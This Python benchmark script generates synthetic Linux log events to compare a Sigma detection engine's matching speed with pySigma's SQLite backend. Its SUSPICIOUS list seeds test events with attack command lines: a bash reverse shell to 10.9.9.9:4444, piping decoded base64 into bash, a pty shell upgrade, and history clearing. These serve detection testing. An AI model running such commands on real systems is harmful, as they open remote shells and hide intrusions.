"""Sigma engine throughput: SigmaHQ Linux rules (and, separately, the whole corpus) over >= 1M
synthetic normalised events, side by side with pySigma's SQLite backend on SQLite (the Zircolite
approach) over the same events.

    .venv/bin/python bench/bench_sigma.py [--events 1000000] [--corpus ../shared/data/sigmahq/rules]

Throughput counts every (event, loaded rule) pair per second of wall time: pairs skipped by log
source routing or by the literal prefilter count as checked, as the issue defines it. Rule loading
and compilation are timed separately and not included in the matching time. The SQLite side is
timed the same way (table loading separately from the queries); each rule's query runs on the
table of every log source the rule covers, exactly the rows our engine routes to it.

The end-to-end audit-log benchmark (parse 1M auditd records, then match) needs the auditd parser
of harness.telemetry and is not part of this script.
"""

from __future__ import annotations

import argparse
import gc
import json
import random
import re
import sqlite3
import sys
import time
from collections import Counter
from collections.abc import Iterable
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from harness.rules.sigma import SigmaEngine  # noqa: E402

DEFAULT_CORPUS = ROOT.parent / "shared" / "data" / "sigmahq" / "rules"

# --- synthetic events -------------------------------------------------------------------------

BINARIES = [
    ("/usr/bin/bash", ["bash", "bash -c 'cd /srv/app && ./run.sh'", "bash /etc/cron.daily/logrotate"]),
    ("/usr/bin/ls", ["ls -la /var/log", "ls /home/{u}", "ls --color=auto"]),
    ("/usr/bin/cat", ["cat /etc/hostname", "cat /proc/meminfo", "cat /var/log/syslog"]),
    ("/usr/bin/grep", ["grep -r TODO src/", "grep -i error /var/log/app.log", "grep -c processor /proc/cpuinfo"]),
    (
        "/usr/bin/python3.11",
        ["python3 manage.py runserver", "python3 -m pip list", "/usr/bin/python3 /opt/app/worker.py"],
    ),
    ("/usr/sbin/sshd", ["sshd: {u} [priv]", "/usr/sbin/sshd -D"]),
    ("/usr/bin/systemctl", ["systemctl status nginx", "systemctl is-active docker"]),
    ("/usr/sbin/cron", ["/usr/sbin/CRON -f"]),
    ("/usr/bin/git", ["git status", "git pull --rebase", "git log --oneline -n 20"]),
    ("/usr/bin/curl", ["curl -s https://api.github.com/repos/x/y", "curl -fsSL https://deb.debian.org/debian/dists/"]),
    ("/usr/bin/ps", ["ps aux", "ps -ef --forest"]),
    ("/usr/bin/find", ["find /var/log -name *.gz -mtime +7", "find . -type f -name '*.py'"]),
    ("/usr/bin/tar", ["tar czf /backup/home.tgz /home/{u}", "tar xf release.tar"]),
    ("/usr/bin/apt-get", ["apt-get update", "apt-get install -y jq"]),
    ("/usr/bin/docker", ["docker ps", "docker run --rm alpine true", "docker logs web"]),
    ("/usr/bin/sed", ["sed -i s/foo/bar/ config.ini", "sed -n 1,20p README.md"]),
    ("/usr/bin/awk", ["awk '{{print $1}}' access.log", "awk -F: '{{print $1}}' /etc/passwd"]),
    ("/usr/bin/sudo", ["sudo -u postgres psql", "sudo systemctl restart nginx"]),
    ("/usr/bin/vim.basic", ["vim /etc/nginx/nginx.conf", "vim notes.txt"]),
    ("/usr/bin/node", ["node server.js", "node /usr/lib/node_modules/npm/bin/npm-cli.js ci"]),
    ("/usr/bin/id", ["id", "id -u"]),
    ("/usr/bin/uname", ["uname -a", "uname -r"]),
    ("/usr/bin/wget", ["wget -q https://releases.example.org/pkg.tar.gz", "wget -O - https://mirror.local/file"]),
    ("/usr/bin/chmod", ["chmod 644 /srv/www/index.html", "chmod +x deploy.sh"]),
    ("/usr/bin/nmap", ["nmap -sV 10.0.0.5", "nmap -sn 10.20.0.0/24"]),
    ("/usr/bin/base64", ["base64 -d payload.b64", "base64 report.pdf"]),
    ("/usr/bin/crontab", ["crontab -l", "crontab -e"]),
    ("/usr/bin/ssh", ["ssh deploy@10.0.0.7", "ssh -i ~/.ssh/id_ed25519 git@github.com"]),
]
USERS = ["root", "alice", "bob", "deploy", "www-data", "postgres", "jenkins"]
DIRS = ["/root", "/home/alice", "/home/bob", "/srv/app", "/var/www", "/tmp", "/opt/build"]
DOMAINS = [
    "api.github.com",
    "deb.debian.org",
    "www.google.com",
    "pypi.org",
    "files.pythonhosted.org",
    "registry.npmjs.org",
    "ntp.ubuntu.com",
    "login.microsoftonline.com",
    "s3.amazonaws.com",
    "ipinfo.io",
    "updates.internal.lan",
    "mail.internal.lan",
    "api.shodan.io",
]
FILES = [
    "/var/log/syslog",
    "/var/log/auth.log",
    "/tmp/tmp{n}.txt",
    "/home/{u}/.bash_history",
    "/srv/app/cache/{n}.json",
    "/etc/cron.d/backup",
    "/var/lib/docker/containers/{n}/config.json",
    "/home/{u}/.ssh/known_hosts",
    "/opt/build/out/{n}.o",
    "/var/tmp/report-{n}.html",
]
UAS = ["Mozilla/5.0 (X11; Linux x86_64)", "curl/7.88.1", "python-requests/2.31.0", "Go-http-client/1.1", "Wget/1.21.3"]
SUSPICIOUS = [  # a small share of events that SigmaHQ Linux rules are written for
    ("/usr/bin/base64", "base64 -d /tmp/x | bash"),
    ("/usr/bin/chmod", "chmod +x /tmp/.hidden/kit"),
    ("/usr/bin/crontab", "crontab -r"),
    ("/usr/bin/nohup", "nohup bash -i >& /dev/tcp/10.9.9.9/4444 0>&1 &"),
    ("/usr/bin/history", "history -c"),
    ("/usr/bin/python3.11", "python3 -c 'import pty;pty.spawn(\"/bin/bash\")'"),
]


def generate(n: int, seed: int = 5) -> list[dict[str, Any]]:
    rnd = random.Random(seed)
    out: list[dict[str, Any]] = []
    kinds = (
        ["process_creation"] * 35
        + ["network_connection"] * 15
        + ["file_event"] * 20
        + ["auditd"] * 15
        + ["dns"] * 8
        + ["proxy"] * 4
        + ["firewall"] * 3
    )
    for i in range(n):
        kind = rnd.choice(kinds)
        u = rnd.choice(USERS)
        if kind == "process_creation":
            if rnd.random() < 0.001:
                image, cmd = rnd.choice(SUSPICIOUS)
            else:
                image, cmds = rnd.choice(BINARIES)
                cmd = rnd.choice(cmds).format(u=u)
                if rnd.random() < 0.5:  # unique arguments: real command lines are high-cardinality
                    cmd += rnd.choice(
                        [
                            f" --id {rnd.getrandbits(48):x}",
                            f" /var/tmp/job-{rnd.randint(1, 10**7)}.log",
                            f" {rnd.randint(1, 65535)}",
                            f" --since {rnd.randint(1, 59)}m",
                        ]
                    )
            parent = rnd.choice(BINARIES)[0]
            ev = {
                "EventID": 1,
                "Image": image,
                "CommandLine": cmd,
                "ParentImage": parent,
                "ParentCommandLine": parent.rsplit("/", 1)[-1],
                "User": u,
                "CurrentDirectory": rnd.choice(DIRS),
                "ProcessId": str(rnd.randint(300, 99999)),
                "LogonId": "0",
            }
            ls = {"product": "linux", "category": "process_creation"}
        elif kind == "network_connection":
            host = rnd.choice(DOMAINS)
            ev = {
                "EventID": 3,
                "Image": rnd.choice(BINARIES)[0],
                "User": u,
                "Protocol": "tcp",
                "Initiated": "true",
                "SourceIp": "10.0.0.5",
                "SourcePort": str(rnd.randint(32768, 60999)),
                "DestinationIp": ".".join(str(rnd.randint(1, 223)) for _ in range(4)),
                "DestinationHostname": host,
                "DestinationPort": rnd.choice(["443", "80", "22", "53", "5432"]),
            }
            ls = {"product": "linux", "category": "network_connection"}
        elif kind == "file_event":
            ev = {
                "EventID": 11,
                "Image": rnd.choice(BINARIES)[0],
                "TargetFilename": rnd.choice(FILES).format(u=u, n=rnd.randint(1, 9999)),
                "User": u,
            }
            ls = {"product": "linux", "category": "file_event"}
        elif kind == "auditd":
            t = rnd.choice(["SYSCALL", "EXECVE", "PATH", "CWD", "PROCTITLE", "USER_LOGIN", "USER_CMD"])
            image, cmds = rnd.choice(BINARIES)
            args = rnd.choice(cmds).format(u=u).split()
            ev = {
                "type": t,
                "key": rnd.choice(["exec", "network", "-"]),
                "exe": image,
                "comm": image.rsplit("/", 1)[-1],
                "uid": "0",
                "auid": "1000",
            }
            if t == "EXECVE":
                ev["argc"] = len(args)
                ev.update({f"a{j}": a for j, a in enumerate(args)})
            elif t == "PATH":
                ev["name"] = rnd.choice(FILES).format(u=u, n=1)
                ev["nametype"] = "NORMAL"
            elif t == "SYSCALL":
                ev["syscall"] = rnd.choice(["59", "42", "257"])
            ls = {"product": "linux", "service": "auditd"}
        elif kind == "dns":
            ev = {
                "query": rnd.choice(DOMAINS),
                "record_type": rnd.choice(["A", "AAAA"]),
                "src_ip": "10.0.0.5",
                "answer": "93.184.216.34",
            }
            ls = {"category": "dns"}
        elif kind == "proxy":
            host = rnd.choice(DOMAINS)
            ev = {
                "cs-host": host,
                "c-uri": f"https://{host}/" + rnd.choice(["", "index.html", "api/v1/items", "simple/"]),
                "cs-method": rnd.choice(["GET", "GET", "POST", "CONNECT"]),
                "c-useragent": rnd.choice(UAS),
                "sc-status": rnd.choice([200, 200, 304, 404]),
                "src_ip": "10.0.0.5",
            }
            ls = {"category": "proxy"}
        else:
            ev = {
                "src_ip": f"10.0.0.{rnd.randint(1, 254)}",
                "dst_ip": f"10.0.1.{rnd.randint(1, 254)}",
                "dst_port": rnd.choice([22, 80, 443, 3389]),
                "protocol": rnd.choice(["tcp", "udp", "icmp"]),
                "action": rnd.choice(["accept", "drop"]),
            }
            ls = {"product": "linux", "category": "firewall"}
        out.append(
            {
                "logsource": ls,
                "event": ev,
                "meta": {"time": f"2026-11-28T05:{(i // 60000) % 60:02d}:{(i // 1000) % 60:02d}Z"},
            }
        )
    return out


# --- our engine -------------------------------------------------------------------------------


def run_engine(paths: list[Path], events: list[dict[str, Any]]) -> dict[str, Any]:
    t0 = time.perf_counter()
    engine = SigmaEngine.from_paths(paths)
    load = time.perf_counter() - t0
    nrules = len(engine.rules) + len(engine.correlations)
    gc.collect()
    gc.disable()
    t0, c0 = time.perf_counter(), time.process_time()
    per_rule: Counter[str] = Counter()
    for m in engine.match(events):
        per_rule[m.rule_id] += 1
    wall, cpu = time.perf_counter() - t0, time.process_time() - c0
    gc.enable()
    pairs = len(events) * nrules
    return {
        "rules": nrules,
        "problems": len(engine.problems),
        "load_s": round(load, 2),
        "match_wall_s": round(wall, 2),
        "match_cpu_s": round(cpu, 2),
        "events_per_s": round(len(events) / wall),
        "pairs": pairs,
        "pairs_per_s": round(pairs / wall),
        "predicates_evaluated": engine.stats.evaluated,
        "matches": sum(per_rule.values()),
        "per_rule": per_rule,
        "pairs_per_cpu_s": round(pairs / cpu),
    }


# --- pySigma SQLite backend on SQLite (Zircolite's approach) ----------------------------------


def sqlite_convert(paths: list[Path]) -> tuple[list[tuple[str, Any, str]], list[str], int]:
    """The rules converted by pySigma's SQLite backend: (queries as (rule id, log source, SQL),
    ids of the rules not converted, number of rules)."""
    from sigma.backends.sqlite import sqliteBackend
    from sigma.collection import SigmaCollection
    from sigma.rule import SigmaRule

    from harness.rules.sigma.compiler import Logsource

    collection = SigmaCollection.load_ruleset(paths, collect_errors=True)
    backend = sqliteBackend()
    queries: list[tuple[str, Any, str]] = []
    not_converted: list[str] = []
    for rule in collection.rules:
        if not isinstance(rule, SigmaRule) or rule.errors:
            not_converted.append(str(rule.id))
            continue
        try:
            converted = backend.convert_rule(rule)
        except Exception:  # what the backend cannot convert (keyword searches, some modifiers)
            not_converted.append(str(rule.id))
            continue
        ls = Logsource.of(rule.logsource.product, rule.logsource.category, rule.logsource.service)
        for q in converted:
            queries.append((str(rule.id), ls, str(q)))
    return queries, not_converted, len(collection.rules)


def sqlite_load(
    events: Iterable[dict[str, Any]], batch: int = 20_000
) -> tuple[sqlite3.Connection, dict[Any, str], int]:
    """Sigma-view events streamed into an in-memory SQLite database, one table per log source
    (columns added as new fields appear, named in lower case), with the Python REGEXP function
    Zircolite registers:
    (database, table per log source, events loaded)."""
    from harness.rules.sigma.compiler import Logsource

    db = sqlite3.connect(":memory:")
    patterns: dict[str, re.Pattern[str]] = {}

    def regexp(pattern: str, value: Any) -> bool:  # SQLite has none, and the backend emits REGEXP
        if value is None:
            return False
        rx = patterns.get(pattern)
        if rx is None:
            rx = patterns[pattern] = re.compile(pattern)
        return rx.search(str(value)) is not None

    db.create_function("regexp", 2, regexp, deterministic=True)
    tables: dict[Any, str] = {}
    columns: dict[str, list[str]] = {}
    pending: dict[str, list[tuple[int, dict[str, Any]]]] = {}

    def flush(name: str) -> None:
        rows = pending[name]
        cols = columns[name]
        known = set(cols)
        for _, ev in rows:
            for k in ev:
                if k not in known:
                    known.add(k)
                    cols.append(k)
                    db.execute(f'ALTER TABLE {name} ADD COLUMN "{k}" TEXT')
        ph = ", ".join("?" for _ in range(len(cols) + 1))
        names = ", ".join(["row_id", *(f'"{c}"' for c in cols)])
        db.executemany(
            f"INSERT INTO {name} ({names}) VALUES ({ph})",
            ([i] + [None if ev.get(c) is None else str(ev.get(c)) for c in cols] for i, ev in rows),
        )
        rows.clear()

    n = 0
    for n, rec in enumerate(events, 1):
        src = rec["logsource"]
        ls = Logsource.of(src.get("product"), src.get("category"), src.get("service"))
        name = tables.get(ls)
        if name is None:
            name = tables[ls] = f"t{len(tables)}"
            columns[name] = []
            pending[name] = []
            db.execute(f"CREATE TABLE {name} (row_id INTEGER)")
        # SQLite's column names are case-insensitive: of auditd's ``syscall``/``SYSCALL`` pairs the
        # later, interpreted (ENRICHED) value is kept, the one SigmaHQ's rules name.
        pending[name].append((n - 1, {k.lower(): v for k, v in rec["event"].items()}))
        if len(pending[name]) >= batch:
            flush(name)
    for name in pending:
        flush(name)
    db.commit()
    return db, tables, n


def sqlite_query(
    db: sqlite3.Connection, tables: dict[Any, str], queries: list[tuple[str, Any, str]]
) -> tuple[Counter[str], int]:
    """Each query on the tables of the log sources its rule covers: (matches per rule, errors)."""
    per_rule: Counter[str] = Counter()
    errors = 0
    for rid, rule_ls, q in queries:
        for ls, name in tables.items():
            if not rule_ls.covers(ls):
                continue
            sql = re.sub(r"\bFROM logs\b", f"FROM {name}", q, count=1)
            for _attempt in range(20):
                try:
                    per_rule[rid] += len(db.execute(sql).fetchall())
                    break
                except sqlite3.OperationalError as exc:
                    m = re.match(r"no such column: (.+)", str(exc))
                    if not m:  # e.g. functions the backend emits that this SQLite lacks
                        errors += 1
                        break
                    db.execute(f'ALTER TABLE {name} ADD COLUMN "{m.group(1).strip(chr(34))}" TEXT')
    return per_rule, errors


def run_sqlite(paths: list[Path], events: list[dict[str, Any]]) -> dict[str, Any]:
    t0 = time.perf_counter()
    queries, not_converted, nrules = sqlite_convert(paths)
    convert = time.perf_counter() - t0
    t0 = time.perf_counter()
    db, tables, _ = sqlite_load(events)
    load = time.perf_counter() - t0
    t0, c0 = time.perf_counter(), time.process_time()
    per_rule, errors = sqlite_query(db, tables, queries)
    wall, cpu = time.perf_counter() - t0, time.process_time() - c0
    pairs = len(events) * nrules
    return {
        "rules": nrules,
        "not_converted": len(not_converted),
        "query_errors": errors,
        "convert_s": round(convert, 2),
        "load_s": round(load, 2),
        "match_wall_s": round(wall, 2),
        "match_cpu_s": round(cpu, 2),
        "events_per_s": round(len(events) / wall),
        "pairs": pairs,
        "pairs_per_s": round(pairs / wall),
        "matches": sum(per_rule.values()),
        "per_rule": per_rule,
        "not_converted_ids": not_converted,
        "pairs_per_cpu_s": round(pairs / cpu),
    }


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--events", type=int, default=1_000_000)
    ap.add_argument("--corpus", type=Path, default=DEFAULT_CORPUS)
    ap.add_argument("--skip-sqlite", action="store_true")
    ap.add_argument("--skip-corpus", action="store_true", help="only the Linux rules")
    ap.add_argument("--json", type=Path, help="write the figures here too")
    args = ap.parse_args()

    t0 = time.perf_counter()
    events = generate(args.events)
    print(
        f"generated {len(events):,} events in {time.perf_counter() - t0:.1f}s: "
        f"{dict(Counter(e['logsource'].get('category') or e['logsource'].get('service') for e in events))}"
    )
    report: dict[str, Any] = {"events": len(events)}
    suites = [("linux", [args.corpus / "linux"])]
    if not args.skip_corpus:
        suites.append(("corpus", [args.corpus]))
    for label, paths in suites:
        ours = run_engine(paths, events)
        print(
            f"[{label}] engine: {ours['rules']} rules, {ours['events_per_s']:,} events/s, "
            f"{ours['pairs_per_s']:,} event-rule pairs/s (wall {ours['match_wall_s']}s, cpu {ours['match_cpu_s']}s, "
            f"load {ours['load_s']}s), {ours['predicates_evaluated']:,} predicates evaluated, "
            f"{ours['matches']:,} matches"
        )
        entry: dict[str, Any] = {"engine": {k: v for k, v in ours.items() if k != "per_rule"}}
        if not args.skip_sqlite:
            sql = run_sqlite(paths, events)
            print(
                f"[{label}] sqlite: {sql['rules']} rules ({sql['not_converted']} not converted, "
                f"{sql['query_errors']} query errors), {sql['pairs_per_s']:,} pairs/s "
                f"(queries {sql['match_wall_s']}s, table load {sql['load_s']}s, convert {sql['convert_s']}s), "
                f"{sql['matches']:,} matches"
            )
            ratio = sql["match_wall_s"] / ours["match_wall_s"]
            ratio_total = (sql["match_wall_s"] + sql["load_s"]) / ours["match_wall_s"]
            ratio_cpu = sql["match_cpu_s"] / ours["match_cpu_s"]
            print(
                f"[{label}] engine vs SQLite: {ratio:.2f}x faster on matching alone (wall), "
                f"{ratio_cpu:.2f}x (CPU), {ratio_total:.2f}x including SQLite's table load (wall); "
                f"engine CPU-time rate {ours['pairs_per_cpu_s']:,} pairs/s, SQLite {sql['pairs_per_cpu_s']:,}"
            )
            differ = {
                r: (ours["per_rule"].get(r, 0), n)
                for r, n in sql["per_rule"].items()
                if ours["per_rule"].get(r, 0) != n
            }
            differ.update(
                {r: (n, sql["per_rule"].get(r, 0)) for r, n in ours["per_rule"].items() if r not in sql["per_rule"]}
            )
            skipped = set(sql["not_converted_ids"])
            unconverted = {r: c for r, c in differ.items() if r in skipped}
            differ = {r: c for r, c in differ.items() if r not in skipped}
            print(
                f"[{label}] {len(unconverted)} rules match only in the engine because the backend cannot convert "
                f"them (keyword searches); converted rules whose match counts differ (engine, sqlite): {len(differ)} "
                f"{dict(list(differ.items())[:10])}"
            )
            entry["sqlite"] = {k: v for k, v in sql.items() if k != "per_rule"}
            entry["speedup_matching"] = round(ratio, 2)
            entry["speedup_including_load"] = round(ratio_total, 2)
            entry["speedup_cpu"] = round(ratio_cpu, 2)
            entry["count_differences"] = differ
            entry["engine_only_unconverted_rules"] = unconverted
        report[label] = entry
    if args.json:
        args.json.write_text(json.dumps(report, indent=2, default=str))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
